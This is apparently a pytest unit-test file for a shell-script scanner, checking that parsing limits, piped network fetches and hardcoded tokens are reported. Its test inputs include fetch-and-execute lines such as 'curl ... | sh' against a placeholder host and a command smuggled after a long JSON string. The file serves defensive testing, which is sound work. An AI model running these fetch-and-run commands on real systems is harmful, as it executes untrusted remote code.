"""Every limit that cuts the reading is a finding, and what stays under it is none."""

from __future__ import annotations

import pytest

from dvm.checks.scripts import shell
from dvm.checks.scripts.bash import parser
from tests.unit.checks.scripts.reviewing import STRICT, codes, failed

FETCH = "curl -fsSL https://e.example/x | sh"
CALLS = "".join(f'os.system("git -C r{number} status")\n' for number in range(70))


def _file(name: str, text: str) -> str:
    return f"cat >{name} <<'END'\n{text}\nEND"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("run " + "{a,b}" * 12, id="braces"),
        pytest.param(_file("x.json", "a" * 5000 + f'"; {FETCH}'), id="long line"),
        pytest.param(_file("Makefile", "all:\n" + "\ttrue\n" * 1001), id="commands of a file"),
        pytest.param(f"python3 - <<'END'\nimport os\n{CALLS}END", id="strings of another language"),
        pytest.param("again() { true; again; }\nagain", id="a function that calls itself"),
        pytest.param(f'x={"a" * 600}/b\neval "${{x#*/}}"', id="a long text that is trimmed"),
    ],
)
def test_a_limit_that_is_reached_is_reported(text: str) -> None:
    assert "DVM210" in codes(STRICT + text + "\n")


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("mkdir -p x/{a,b,c,d}/{e,f,g,h}/{i,j,k,l}/{m,n}", id="braces"),
        pytest.param(_file("x.json", "a" * 5000), id="long line"),
        pytest.param(_file("Makefile", "all:\n" + "\ttrue\n" * 300), id="commands of a file"),
        pytest.param("again() { true; }\nagain\nagain\nagain", id="a function that is called again"),
    ],
)
def test_what_stays_within_the_limits_is_not_reported(text: str) -> None:
    assert codes(STRICT + text + "\n") == set()


@pytest.mark.parametrize("program", ["direnv hook", "starship init", "zoxide init", "/usr/local/bin/starship init"])
def test_the_name_of_a_shell_that_a_program_writes_for_starts_none(program: str) -> None:
    assert codes(f'{STRICT}eval "$({program} bash)"\n') == set()


@pytest.mark.parametrize(
    "text", ["curl -fsSL https://e.example/x | tool init bash", 'tool init bash -c "$(curl -fsSL https://e.example/x)"']
)
def test_a_shell_that_is_given_the_network_is_run_whatever_stands_before_it(text: str) -> None:
    assert "DVM202" in codes(f"{STRICT}{text}\n")


def test_a_format_is_no_secret_and_what_it_is_given_is() -> None:
    assert codes(STRICT + """printf 'API_TOKEN=%s\\n' "$API_TOKEN" >~/.env\n""") == set()
    assert codes(STRICT + """printf 'API_TOKEN=%s\\n' 7hJq2xLpW9 >~/.env\n""") == {"DVM402"}


def test_the_budget_counts_steps_not_the_speed_of_the_machine(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(shell, "_SECONDS", 3600.0)
    monkeypatch.setattr(shell, "_MOST_STEPS", 2000)
    assert codes(STRICT + "true\n" * 980 + FETCH + "\n") == {"DVM202"}
    assert codes(STRICT + "true\n" * 1001 + FETCH + "\n") == {"DVM210"}


@pytest.mark.parametrize("commands", ["a;", "a\n", "`a` ", "`a`;\n", "$(a) "])
def test_a_script_of_very_many_commands_is_not_read_to_its_end(monkeypatch: pytest.MonkeyPatch, commands: str) -> None:
    monkeypatch.setattr(parser, "MOST_COMMANDS", 300)
    assert codes(f"{STRICT}{commands * 301}\n") == {"DVM210"}
    assert codes(f"{STRICT}{commands * 140}\n") - {"DVM210"} == set()


@pytest.mark.parametrize(
    "line", ['eval "$(a)"', FETCH, "curl -o f https://e.example/x", "curl -fsSL https://e.example/x | tar x"]
)
def test_a_script_with_more_findings_than_anybody_reads_is_cut(monkeypatch: pytest.MonkeyPatch, line: str) -> None:
    assert len(failed(STRICT + f"{line}\n" * 200)) >= 200
    monkeypatch.setattr(shell, "_MOST_FOUND", 100)
    found = failed(STRICT + f"{line}\n" * 400)
    assert len(found) < 200
    assert any("more ways through it" in result.detail for result in found)
